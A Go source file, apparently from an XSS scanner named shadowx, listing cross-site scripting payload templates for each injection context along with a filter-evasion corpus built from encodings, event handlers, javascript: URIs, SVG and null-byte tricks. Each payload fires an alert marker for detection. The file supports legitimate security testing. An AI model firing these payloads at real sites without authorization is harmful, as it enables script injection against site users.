package payloads

import "github.com/Serdar715/shadowx/internal/config"

// contextPayloads are breakout templates per landing context
var contextPayloads = map[config.ContextKind][]string{
	config.ContextScriptTag: {
		`";alert("{{MARKER}}");var dummy="`,
		`';alert("{{MARKER}}");var dummy='`,
		`</script><script>alert("{{MARKER}}")</script>`,
		`/**/alert("{{MARKER}}")/**/`,
		`prompt("{{MARKER}}")`,
		`confirm("{{MARKER}}")`,
	},
	config.ContextScriptAttribute: {
		`alert("{{MARKER}}")`,
		`"onmouseover="alert("{{MARKER}}")"`,
		`'"onmouseover="alert("{{MARKER}}")"`,
		`javascript:alert("{{MARKER}}")`,
		`" onclick="alert("{{MARKER}}")"`,
		`' onclick='alert("{{MARKER}}");'`,
	},
	config.ContextHTMLAttribute: {
		`"><script>alert("{{MARKER}}")</script>`,
		`'""><script>alert("{{MARKER}}")</script>`,
		`" onmouseover="alert("{{MARKER}}")"`,
		`' onmouseover='alert("{{MARKER}}")' dummy='`,
		`"><img src=x onerror=alert("{{MARKER}}")>`,
		`'""><img src=x onerror=alert("{{MARKER}}")>`,
	},
	config.ContextHTMLBody: {
		`<script>alert("{{MARKER}}")</script>`,
		`<img src=x onerror=alert("{{MARKER}}")>`,
		`<svg onload=alert("{{MARKER}}")>`,
		`<body onload=alert("{{MARKER}}")>`,
		`<iframe src=javascript:alert("{{MARKER}}")>`,
		`<object data=javascript:alert("{{MARKER}}")>`,
		`<embed src=javascript:alert("{{MARKER}}")>`,
		`<marquee onstart=alert("{{MARKER}}")>`,
		`<details ontoggle=alert("{{MARKER}}")>`,
		`<audio src=x onerror=alert("{{MARKER}}")>`,
	},
	config.ContextHTMLComment: {
		`--><script>alert("{{MARKER}}")</script><!--`,
		`--!><script>alert("{{MARKER}}")</script><!--`,
	},
	config.ContextStyleTag: {
		`</style><script>alert("{{MARKER}}")</script><style>`,
		`expression(alert("{{MARKER}}"))`,
		`url(javascript:alert("{{MARKER}}"))`,
	},
	config.ContextStyleAttribute: {
		`";alert("{{MARKER}}");"`,
		`expression(alert("{{MARKER}}"))`,
		`url(javascript:alert("{{MARKER}}"))`,
		`"><script>alert("{{MARKER}}")</script><div style="`,
	},
}

// bypassPool is the generic filter-evasion corpus
var bypassPool = []string{
	// Case variations
	`<ScRiPt>alert("{{MARKER}}")</ScRiPt>`,
	`<sCrIpT>alert("{{MARKER}}")</sCrIpT>`,

	// Encoding variations
	`&lt;script&gt;alert("{{MARKER}}")&lt;/script&gt;`,
	`%3Cscript%3Ealert("{{MARKER}}")%3C/script%3E`,
	`&#60;script&#62;alert("{{MARKER}}")&#60;/script&#62;`,

	// Alternative tags
	`<img src=x onerror=alert("{{MARKER}}")>`,
	`<svg onload=alert("{{MARKER}}")>`,
	`<iframe src=javascript:alert("{{MARKER}}")>`,
	`<object data=javascript:alert("{{MARKER}}")>`,
	`<embed src=javascript:alert("{{MARKER}}")>`,
	`<video poster=javascript:alert("{{MARKER}}")>`,
	`<audio src=x onerror=alert("{{MARKER}}")>`,

	// Event handlers
	`<div onmouseover=alert("{{MARKER}}")>`,
	`<span onclick=alert("{{MARKER}}")>`,
	`<p onload=alert("{{MARKER}}")>`,
	`<body onpageshow=alert("{{MARKER}}")>`,
	`<form oninput=alert("{{MARKER}}")>`,
	`<select onfocus=alert("{{MARKER}}")>`,
	`<textarea onblur=alert("{{MARKER}}")>`,
	`<input onkeypress=alert("{{MARKER}}")>`,

	// JavaScript protocol
	`javascript:alert("{{MARKER}}")`,
	`JavaScript:alert("{{MARKER}}")`,
	`JAVASCRIPT:alert("{{MARKER}}")`,
	"javas\tcript:alert(\"{{MARKER}}\")",
	"javas\ncript:alert(\"{{MARKER}}\")",
	"javas\rcript:alert(\"{{MARKER}}\")",

	// Unicode escapes
	`<script>\u0061lert("{{MARKER}}")</script>`,
	`<script>eval(String.fromCharCode(97,108,101,114,116,40,34,{{MARKER}},34,41))</script>`,

	// Template literals
	"<script>`alert(\"{{MARKER}}\")`</script>",
	"<script>alert`{{MARKER}}`</script>",

	// Expression alternatives
	`<img src=x onerror=eval(alert("{{MARKER}}"))>`,
	`<img src=x onerror=Function("alert(\"{{MARKER}}\")")()>`,
	`<img src=x onerror=setTimeout("alert(\"{{MARKER}}\")",1)>`,
	`<img src=x onerror=setInterval("alert(\"{{MARKER}}\")",1)>`,

	// CSS
	`<style>@import "javascript:alert(\"{{MARKER}}\")";</style>`,
	`<style>body{background:url("javascript:alert(\"{{MARKER}}\")")}</style>`,
	`<link rel=stylesheet href="javascript:alert(\"{{MARKER}}\")">`,

	// SVG
	`<svg><script>alert("{{MARKER}}")</script></svg>`,
	`<svg onload=alert("{{MARKER}}")></svg>`,
	`<svg><animate onbegin=alert("{{MARKER}}")></svg>`,
	`<svg><foreignObject><script>alert("{{MARKER}}")</script></foreignObject></svg>`,

	// Form-related
	`<form><button formaction=javascript:alert("{{MARKER}}")>`,
	`<form><input type=submit formaction=javascript:alert("{{MARKER}}")>`,
	`<isindex action=javascript:alert("{{MARKER}}")>`,

	// Meta refresh
	`<meta http-equiv=refresh content="0;url=javascript:alert(\"{{MARKER}}\")">`,

	// Data URI
	`<iframe src="data:text/html,<script>alert(\"{{MARKER}}\")</script>">`,
	`<object data="data:text/html,<script>alert(\"{{MARKER}}\")</script>">`,

	// Comments and CDATA
	`<!--<script>alert("{{MARKER}}")</script>-->`,
	`<![CDATA[<script>alert("{{MARKER}}")</script>]]>`,

	// Alternative quotes
	`<script>alert('{{MARKER}}')</script>`,
	"<script>alert(`{{MARKER}}`)</script>",
	"<img src=x onerror=alert(`{{MARKER}}`)>",

	// Whitespace variations
	`<script >alert("{{MARKER}}")</script>`,
	"<script\t>alert(\"{{MARKER}}\")</script>",
	"<script\n>alert(\"{{MARKER}}\")</script>",
	"<script\r>alert(\"{{MARKER}}\")</script>",
	`< script>alert("{{MARKER}}")</script>`,

	// Null bytes
	"<script>alert(\"{{MARKER}}\x00\")</script>",
	"<img src=x onerror=alert(\"{{MARKER}}\x00\")>",
}

// bypassSlice is how many pool entries ForContext appends
const bypassSlice = 10

// ForContext returns the templates for a landing context followed by the
// first entries of the bypass pool. Unknown contexts use the html_body set.
func ForContext(kind config.ContextKind) []string {
	base, ok := contextPayloads[kind]
	if !ok {
		base = contextPayloads[config.ContextHTMLBody]
	}
	out := make([]string, 0, len(base)+bypassSlice)
	out = append(out, base...)
	out = append(out, bypassPool[:bypassSlice]...)
	return out
}

// BypassPool returns a copy of the full bypass corpus.
func BypassPool() []string {
	out := make([]string, len(bypassPool))
	copy(out, bypassPool)
	return out
}
